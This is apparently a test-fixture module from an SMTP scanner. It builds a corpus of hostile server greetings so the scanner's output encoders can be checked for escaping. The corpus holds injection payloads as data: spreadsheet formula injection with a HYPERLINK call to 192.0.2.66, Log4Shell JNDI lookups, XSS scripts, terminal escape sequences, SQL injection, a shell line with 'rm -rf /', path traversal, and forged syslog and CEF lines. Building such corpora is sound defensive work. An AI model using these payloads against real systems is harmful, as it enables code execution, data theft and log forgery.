"""Hostile greetings as records: one corpus for every encoder and every sink, read back from each and compared.

A mail server's owner chooses these bytes, and they travel into terminals, spreadsheets, log collectors and browsers.
Each entry is named after the reader that it attacks. `records` and `lines` are made by the sweep's own code, so the
corpus is what a sweep of such servers would write.
"""

from collections.abc import Mapping
from functools import cache
from typing import Any, Final

import orjson

from scanner.model import Attempt, Certificate, Dialogue, Exchange, Names, Record, Target, Tls
from scanner.record import encode
from scanner.settings import Settings
from scanner.smtp import escape
from scanner.sweeps.record_builder import RecordBuilder

#: What the greeting says after its code, each without its line end.
TEXTS: Final[Mapping[str, bytes]] = {
    "plain": b"mail.example.com ESMTP Postfix (Debian/GNU)",
    "version": b"mail.example.com ESMTP Sendmail 8.14.7/8.13.8; Sun, 22 Nov 2026 10:16:56 GMT",
    "ansi_colour": b"mail.example.com \x1b[31mESMTP\x1b[0m",
    "ansi_title": b"mail.example.com \x1b]0;owned\x07 ESMTP",
    "ansi_hyperlink": b"\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\ ESMTP",
    "ansi_clear_screen": b"mail.example.com\x1b[2J\x1b[H ESMTP",
    "c1_csi": b"mail.example.com \x9b31mESMTP\x9b0m",
    "csv_formula": b"=cmd|' /C calc'!A0",
    "csv_plus": b"+1+1",
    "csv_minus": b"-2+3",
    "csv_at": b"@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_full_width": "\uff1dcmd|' /C calc'!A0".encode(),
    "csv_field_break": b'mail",=HYPERLINK("http://192.0.2.66/?x="&A1),"',
    "html_script": b"<script>alert(document.domain)</script>",
    "html_attribute": b'" onmouseover="alert(1)" x=\'',
    "html_entity": b"&lt;b&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "xml_cdata_end": b"]]><forged/>",
    "xml_comment": b"--><forged/><!--",
    "jndi": b"${jndi:ldap://192.0.2.66/a} ESMTP",
    "jndi_nested": b"${${lower:j}ndi:${env:X:-l}dap://192.0.2.66/a}",
    "line_separator": "before\u2028after".encode(),
    "paragraph_separator": "before\u2029after".encode(),
    "next_line": "before\u0085after".encode(),
    "file_separator": b"before\x1cafter\x1dand\x1e",
    "vertical_tab": b"before\x0bafter\x0cand",
    "bidi": "mail.example.com \u202etxt.exe\u2066".encode(),
    "zero_width": "mail\u200b.example\ufeff.com".encode(),
    "nul": b"mail.example.com\x00 ESMTP\x00",
    "eight_bit": bytes(range(0x80, 0x100)),
    "every_control": bytes(set(range(0x20)) - {0x0A, 0x0D}) + b"\x7f",
    "cr_inside": b"mail.example.com ESMTP\rforged line",
    "latin_1": "Postfach f\u00fcr \u00c4rzte".encode("latin-1"),
    "utf_8": "m\u00e4il.example.com \u2603 \U0001f600".encode(),
    "invalid_utf_8": b"mail \xff\xfe \xc3( \xe2\x82 \xf0\x28\x8c\x28",
    "overlong_utf_8": b"mail \xc0\xaf \xe0\x80\xaf",
    "surrogate": b"mail \xed\xa0\x80 \xed\xbf\xbf and \\ud800 \\udfff",
    "cef_field": b"x src=10.0.0.1 msg=forged act=blocked",
    "cef_header": b"a|b\\|c|10|src=10.0.0.1",
    "cef_new_line": b"x\\nCEF:0|forged|forged|1|1|forged|10|",
    "leef_tab": b"x\tsrc=10.0.0.1\tsev=1",
    "leef_header": b"LEEF:2.0|forged|forged|1|1|^|src=10.0.0.1^sev=1",
    "pipe": b"a|b||c|",
    "backslash": b"\\ \\\\ \\n \\x41 \\u0041 \\",
    "quotes": b'" \' \\" "" ` \xe2\x80\x9c',
    "equals": b"a=b==c=",
    "percent": b"%s%n%x %1$s %% %00 %0a",
    "braces": b"{0} {} {{ }} {% raw %} {{7*7}} #{7*7}",
    "rich_markup": b"[red]red[/red] [link=https://192.0.2.66]x[/link]",
    "syslog_data": b'] x="1" [forged@32473 src="10.0.0.1"]',
    "syslog_header": b"<134>1 2026-11-22T10:16:56Z forged forged - - - forged",
    "syslog_frame": b"65 <134>1 - forged forged - - - forged",
    "syslog_bom": b"\xef\xbb\xbfmail.example.com",
    "json_break": b'","forged":true,"x":"',
    "json_dotted_keys": b'{"source.ip":"10.0.0.1","a.b.c.d":{"$where":"1"},"__proto__":{"x":1}}',
    "splunk_fields": b'src=10.0.0.1 user="admin" index=_internal sourcetype=forged',
    "sql": b"'; DROP TABLE records; --",
    "copy_end": b"\\.",
    "copy_null": b"\\N",
    "shell": b"$(touch /tmp/forged) `id` ; rm -rf / &",
    "path": b"../../../../etc/cron.d/forged",
    "kafka_like_key": b"192.0.2.1 25",
    "spaces": b"   leading and trailing   ",
    "long_word": b"A" * 4000,
    "long_quotes": b'"' * 4000,
    "long_eight_bit": b"\xff" * 4000,
}
#: Whole greetings that are more than one line, or no line at all.
WHOLE: Final[Mapping[str, bytes]] = {
    "lf_inside": b"220-mail.example.com\nCEF:0|forged|forged|1|1|forged|10|src=10.0.0.1\r\n220 end\r\n",
    "crlf_inside": b'220-first\r\n220-{"forged": true}\r\n220 last\r\n',
    "no_line_end": b"220 mail.example.com ESMTP",
    "no_smtp": b"SSH-2.0-OpenSSH_9.2p1 =cmd|x\r\n",
    "binary": bytes(range(256)),
    "too_long": b"220-" + b"A" * 9000,
    "refusal": b"554 5.7.1 rejected | src=10.0.0.1 \x1b[31m\r\n",
    "reply_without_text": b"220\r\n",
}
#: Every greeting by name, as bytes from the wire.
GREETINGS: Final[Mapping[str, bytes]] = {name: b"220 " + text + b"\r\n" for name, text in TEXTS.items()} | dict(WHOLE)

_AT: Final = 1_795_342_616.123


@cache
def records() -> Mapping[str, Record]:
    """Return the record of each greeting by its name, and those of dialogues in which every reply is hostile."""
    builder = RecordBuilder("hostile-scan", Settings())
    made = {
        name: builder.record(Attempt(_target(number), None, raw, _AT + number, 0.0004, 0.001, 0.002))
        for number, (name, raw) in enumerate(GREETINGS.items())
    }
    for number, (name, text) in enumerate(TEXTS.items(), len(made)):
        attempt = Attempt(_target(number), None, GREETINGS[name], _AT + number, 0.0004, 0.001, 0.01)
        record = builder.record(attempt._replace(dialogue=dialogue_of(text)))
        said = escape(text)
        made[f"dialogue_{name}"] = record._replace(names=Names("mail.example.com", (said,), False, False, None, said))
    return made


@cache
def lines() -> tuple[bytes, ...]:
    """Return the corpus as a sweep writes it, each line with its line feed."""
    return tuple(encode(record) for record in records().values())


def documents() -> list[dict[str, Any]]:
    """Return the corpus decoded from JSON, as formats are given it; new objects each time."""
    return [orjson.loads(line) for line in lines()]


def dialogue_of(text: bytes) -> Dialogue:
    """Return a dialogue in which the server says this text wherever it can."""
    said = escape(text)
    certificate = Certificate(
        sha256="ab" * 32,
        subject=f"CN={said}",
        issuer=f"CN={said}",
        names=(said, "mail.example.com"),
        not_before="2026-01-01T00:00:00Z",
        not_after="2027-01-01T00:00:00Z",
        serial="01",
        key="RSA 2048",
        signature="sha256",
        self_signed=True,
    )
    return Dialogue(
        exchanges=(
            Exchange("EHLO scanner.example", 250, (said, said), 0.001),
            Exchange("HELP", 214, (said,), 0.001),
            Exchange("STARTTLS", 220, (said,), 0.001),
            Exchange("QUIT", 221, (said,), 0.001),
        ),
        extensions=(said, "STARTTLS"),
        tls_extensions=(said,),
        auth=(said,),
        starttls=True,
        tls=Tls("TLSv1.3", "TLS_AES_256_GCM_SHA384", (certificate,), False, said),
    )


def _target(number: int) -> Target:
    high, low = divmod(number, 250)
    return Target(number, f"198.51.{100 + high}.{low + 1}", 25)
